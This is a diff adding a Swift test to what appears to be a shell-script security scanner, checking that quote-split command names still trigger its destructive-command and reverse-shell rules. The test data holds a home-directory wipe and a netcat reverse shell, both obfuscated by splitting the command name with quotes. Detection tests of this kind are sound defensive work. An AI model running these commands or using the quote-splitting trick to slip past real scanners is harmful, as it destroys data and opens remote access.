@@ -28,6 +28,18 @@ import Testing
     #expect(hit.line == 2)
   }
 
+  @Test(
+    "Split names of other commands reach their rules too (each was safe before the fix)",
+    arguments: [
+      ("destructive-command", "#!/bin/sh\nr\"m\" -rf ~/\n"),
+      ("reverse-shell", "#!/bin/sh\nn''c -e /bin/sh 203.0.113.9 4444\n"),
+    ])
+  func splitNamesOfOtherCommands(rule: String, script: String) throws {
+    let hit = try #require(findings(script: script).first { $0.ruleID == RuleID(rawValue: rule) })
+    #expect(hit.file == "scripts/setup.sh")
+    #expect(hit.line == 2)
+  }
+
   @Test("Quotes around ordinary words do not invent a command")
   func quotedWordsStayQuiet() {
     let found = findings(script: "#!/bin/sh\necho \"c\" \"url\" | tee notes.txt\n")
